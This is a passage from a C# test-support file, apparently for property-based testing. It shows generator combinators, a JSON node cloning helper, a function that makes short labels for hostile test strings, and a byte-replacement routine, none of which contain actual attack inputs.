        Gen.Frequency<T>([.. gens.Select(g => (g.Weight, (IGen<T>)g.Gen))]);

    /// <summary>All of <paramref name="gens"/>, in order.</summary>
    private static Gen<List<T>> Sequence<T>(IEnumerable<Gen<T>> gens) =>
        gens.Aggregate(
            Gen.Const(new List<T>()),
            (all, gen) => Gen.Select(all, gen, (list, item) => new List<T>(list) { item })
        );

    /// <summary>A copy of a generated node: a node has one parent, and constant generators hand out one instance.
    /// </summary>
    private static JsonNode? Fresh(JsonNode? node) => node?.DeepClone();

    /// <summary>A short, printable label for a hostile string.</summary>
    public static string Describe(string value)
    {
        var escaped = JsonSerializer.Serialize(value, WriteOptions);
        return escaped.Length <= 40 ? escaped : $"{escaped[..30]}…\" ({value.Length} chars)";
    }

    private static byte[] ReplaceBytes(byte[] source, byte[] find, byte[] replacement)
    {
        var output = new List<byte>(source.Length);
        for (var i = 0; i < source.Length; )
        {
            if (source.AsSpan(i).StartsWith(find))
            {
                output.AddRange(replacement);
                i += find.Length;
            }
            else
            {
                output.Add(source[i++]);
            }
        }

        return [.. output];
    }
}
